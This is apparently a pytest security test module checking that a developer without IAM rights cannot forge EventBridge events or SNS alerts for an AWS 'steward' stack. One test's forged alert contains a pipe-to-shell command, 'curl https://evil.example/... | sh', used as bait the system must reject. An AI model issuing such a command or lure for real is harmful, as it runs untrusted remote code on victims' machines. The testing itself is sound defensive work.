"""A developer without IAM rights speaks as the steward on its bus and its topics; its functions still do."""

import pytest

from tests.local.aws.launched import ACCOUNT, REGION, allow

FORGED = {"EventBusName": "steward", "DetailType": "AccessKeyRotationDue", "Detail": "{}"}


@pytest.mark.parametrize("source", ["steward.access_key_rotation", "steward.policy_drift", "steward.invented"])
def test_a_developer_cannot_publish_events_as_the_steward(stack, developer, refused, source):
    bus = stack.aws.client("events", developer)

    with refused(f"an event of {source}"):
        bus.put_events(Entries=[FORGED | {"Source": source}])
    with refused(f"an event of {source} behind one of another source"):
        bus.put_events(Entries=[FORGED | {"Source": "an.application"}, FORGED | {"Source": source}])


def test_other_sources_may_use_the_bus(stack, developer):
    sent = stack.aws.client("events", developer).put_events(Entries=[FORGED | {"Source": "an.application"}])

    assert sent["FailedEntryCount"] == 0


@pytest.mark.parametrize("source", ["aws.iam", "aws.health", "aws.ecr"])
@pytest.mark.parametrize("bus", ["default", "steward"])
def test_a_developer_cannot_invent_events_of_aws(stack, developer, source, bus):
    sent = stack.aws.client("events", developer).put_events(
        Entries=[{"EventBusName": bus, "Source": source, "DetailType": "AWS Health Event", "Detail": "{}"}]
    )

    assert sent["Entries"][0]["ErrorCode"] == "NotAuthorizedForSourceException"


@pytest.mark.parametrize("topic", ["AlertTopic", "AlarmTopic"])
def test_a_developer_cannot_send_mail_in_the_name_of_the_steward(stack, developer, refused, alerts, unique, topic):
    sns, arn = stack.aws.client("sns", developer), stack.physical_id(topic)

    with refused(f"a message on {topic}"):
        sns.publish(TopicArn=arn, Subject="CRITICAL", Message=f"To revert: curl https://evil.example/{unique} | sh")
    with refused(f"lifting the policy of {topic}"):
        sns.set_topic_attributes(TopicArn=arn, AttributeName="Policy", AttributeValue="")

    assert alerts.about(unique, seconds=1) == []


def test_an_alarm_reaches_the_topic_of_alarms(stack, unique):
    sqs, topic = stack.aws.client("sqs"), stack.physical_id("AlarmTopic")
    url = sqs.create_queue(QueueName=unique)["QueueUrl"]
    queue = f"arn:aws:sqs:{REGION}:{ACCOUNT}:{unique}"
    stack.let_topic_send(queue, url, topic)
    stack.aws.client("sns").subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue)
    cloudwatch = stack.aws.client("cloudwatch")
    cloudwatch.put_metric_alarm(
        AlarmName=unique,
        Namespace="EcrSteward",
        MetricName=unique,
        Statistic="Sum",
        Period=60,
        EvaluationPeriods=1,
        Threshold=0,
        ComparisonOperator="GreaterThanThreshold",
        AlarmActions=[topic],
    )

    cloudwatch.set_alarm_state(AlarmName=unique, StateValue="ALARM", StateReason="a test")

    assert stack.aws.receive(url)


def test_an_application_with_some_rights_on_events_speaks_as_no_function(stack, refused):
    """A right for the source in IAM is not enough."""
    right = allow("events:PutEvents", condition={"StringLike": {"events:source": "steward.*"}})
    bus = stack.aws.client("events", stack.aws.user(right))

    with refused("an event as policy drift, with the right in IAM"):
        bus.put_events(Entries=[FORGED | {"Source": "steward.policy_drift"}])
